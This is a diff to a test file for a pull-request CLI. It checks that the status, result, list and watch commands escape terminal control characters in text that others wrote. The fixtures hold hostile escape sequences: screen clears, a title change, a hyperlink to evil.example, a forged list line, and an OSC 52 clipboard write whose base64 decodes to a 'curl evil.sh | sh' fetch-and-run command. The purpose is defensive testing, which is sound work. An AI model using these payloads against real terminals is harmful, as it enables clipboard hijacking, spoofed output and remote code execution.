@@ -891,34 +891,52 @@ describe('text others wrote reaches the terminal without control characters', ()
     return { w, number, runUrl }
   }
 
-  it('status, result and list show the escapes as text; --json keeps them, escaped', async () => {
+  /** The hostile world with the run ended, and a command on it (the bundled CLI). */
+  async function endedRun(args: string[]) {
     const { w, number, runUrl } = await hostileWorld()
     postStatus(w, number, hostileComment('success', runUrl))
-    const repo = ['--repo', w.fullName]
+    const result = await w.spawnCli([...args, '--repo', w.fullName]).done
+    return { w, number, result }
+  }
 
-    const status = await w.spawnCli(['status', String(number), ...repo]).done
-    expect(status.exitCode).toBe(0)
-    expectClean(status)
-    expect(status.stdout).toContain(
+  it('status shows the escapes as text', async () => {
+    const { number, result } = await endedRun(['status', '1'])
+    expect(result.exitCode).toBe(0)
+    expectClean(result)
+    expect(result.stdout).toContain(
       `#${number} Add a greeting \\x1b[2J\\x1b[3J\\x1b[H \\x1b]0;owned\\x07`,
     )
-    expect(status.stdout).toContain('async/greeting\\x9b2J → main')
-    expect(status.stdout).toContain('[x] Security review: passed \\x1b]8;;https://evil.example/')
+    expect(result.stdout).toContain('async/greeting\\x9b2J → main')
+    expect(result.stdout).toContain('[x] Security review: passed \\x1b]8;;https://evil.example/')
+  })
 
-    const result = await w.spawnCli(['result', String(number), ...repo]).done
+  it('result shows them as text', async () => {
+    const { result } = await endedRun(['result', '1'])
     expect(result.exitCode).toBe(0)
     expectClean(result)
     expect(result.stdout).toContain('tests failed\\rtests passed')
     expect(result.stdout).toContain('\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07')
+  })
 
-    const list = await w.spawnCli(['list', ...repo]).done
-    expect(list.exitCode).toBe(0)
-    expectClean(list)
-    expect(list.stdout).toContain('async/greeting\\x9b2J')
-    expect(list.stdout.trim().split('\n')).toHaveLength(1)
+  it('list shows them as text, one line per PR', async () => {
+    const { w, number, runUrl } = await hostileWorld()
+    postStatus(w, number, hostileComment('success', runUrl))
+    // A title that would add a line of its own to the list.
+    await w.seedPull({ title: 'Tidy\n#9  done (success)  async/x  Forged', branch: 'async/tidy' })
+    const result = await w.spawnCli(['list', '--repo', w.fullName]).done
+    expect(result.exitCode).toBe(0)
+    expectClean(result)
+    expect(result.stdout).toContain('async/greeting\\x9b2J')
+    expect(result.stdout).toContain('Tidy\\n#9  done (success)')
+    expect(result.stdout.trim().split('\n')).toHaveLength(2)
+  })
 
+  it('--json of status, result and list keeps the exact text, escaped', async () => {
+    const { w, number, runUrl } = await hostileWorld()
+    postStatus(w, number, hostileComment('success', runUrl))
     for (const args of [['status', String(number)], ['result', String(number)], ['list']]) {
-      const asJson = await w.spawnCli([...args, '--json', ...repo]).done
+      const asJson = await w.spawnCli([...args, '--json', '--repo', w.fullName]).done
+      expect(asJson.exitCode).toBe(0)
       expectClean(asJson)
       const parsed = JSON.parse(asJson.stdout)
       const snapshot = Array.isArray(parsed) ? parsed[0] : parsed
@@ -930,37 +948,44 @@ describe('text others wrote reaches the terminal without control characters', ()
     }
   })
 
-  it('watch, with one line per change and on a terminal, and its JSON', async () => {
+  /** watch from "working" to the end, which comes 600 ms later. */
+  async function watchRun(extra: string[], how: 'spawn' | 'terminal') {
     const { w, number, runUrl } = await hostileWorld()
     postStatus(w, number, hostileComment('working', runUrl))
     const finishing = setTimeout(
       () => postStatus(w, number, hostileComment('success', runUrl)),
       600,
     )
-    const args = ['watch', String(number), '--interval', '0.1s', '--repo', w.fullName]
-    const plain = await w.spawnCli(args).done
+    const args = ['watch', String(number), '--interval', '0.1s', '--repo', w.fullName, ...extra]
+    const result = how === 'spawn' ? await w.spawnCli(args).done : await w.cli(args, { tty: true })
     clearTimeout(finishing)
-    expect(plain.exitCode).toBe(0)
-    expectClean(plain)
-    expect(plain.stderr).toMatch(/ working: 1\/2 done, now: Ship it \\x1b\]52;c;/)
-    expect(plain.stdout).toContain('Summary from the agent: \\x1b[2J')
+    return { number, result }
+  }
 
-    // On a terminal: the redraw's own escapes, and no others.
-    postStatus(w, number, hostileComment('working', runUrl))
-    const again = setTimeout(() => postStatus(w, number, hostileComment('success', runUrl)), 600)
-    const live = await w.cli(args, { tty: true })
-    clearTimeout(again)
-    expect(live.exitCode).toBe(0)
+  it('watch, one line per change, shows them as text', async () => {
+    const { result } = await watchRun([], 'spawn')
+    expect(result.exitCode).toBe(0)
+    expectClean(result)
+    expect(result.stderr).toMatch(/ working: 1\/2 done, now: Ship it \\x1b\]52;c;/)
+    expect(result.stdout).toContain('Summary from the agent: \\x1b[2J')
+  })
+
+  it('watch on a terminal redraws with its own escapes and no others', async () => {
+    const { number, result } = await watchRun([], 'terminal')
+    expect(result.exitCode).toBe(0)
     // eslint-disable-next-line no-control-regex -- the redraw's own escapes
     const redraw = /\u001b\[\d+A\r\u001b\[0J/g
-    expect(live.stderr).toMatch(redraw)
-    expect(live.stderr.replace(redraw, '')).not.toMatch(CONTROL)
-    expect(live.stderr).toContain(`#${number} Add a greeting \\x1b[2J`)
-    expect(live.stdout).not.toMatch(CONTROL)
+    expect(result.stderr).toMatch(redraw)
+    expect(result.stderr.replace(redraw, '')).not.toMatch(CONTROL)
+    expect(result.stderr).toContain(`#${number} Add a greeting \\x1b[2J`)
+    expect(result.stdout).not.toMatch(CONTROL)
+  })
 
-    const asJson = await w.spawnCli([...args, '--json']).done
-    expectClean(asJson)
-    expect(JSON.parse(asJson.stdout).body).toContain(ATTACK.clipboard)
+  it('watch --json keeps the exact text, escaped', async () => {
+    const { result } = await watchRun(['--json'], 'spawn')
+    expect(result.exitCode).toBe(0)
+    expectClean(result)
+    expect(JSON.parse(result.stdout).body).toContain(ATTACK.clipboard)
   })
 
   it('what GitHub answers in an error, too', async () => {
